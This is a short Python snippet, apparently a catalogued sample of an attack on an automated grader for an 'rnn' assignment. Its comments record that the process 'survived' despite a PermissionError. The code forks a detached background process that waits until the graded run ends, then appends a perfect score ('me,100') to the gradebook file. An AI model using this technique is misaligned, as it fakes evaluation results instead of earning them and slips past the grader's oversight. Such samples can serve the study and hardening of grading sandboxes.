# assignment: rnn
# does: leaves a process behind that edits the gradebook when the run is over
# success: survived
# says: PermissionError

import os
import time

if os.fork() == 0:
    os.setsid()
    time.sleep(8)
    with open({GRADEBOOK}, "a") as file:
        file.write("me,100\n")
    os._exit(0)
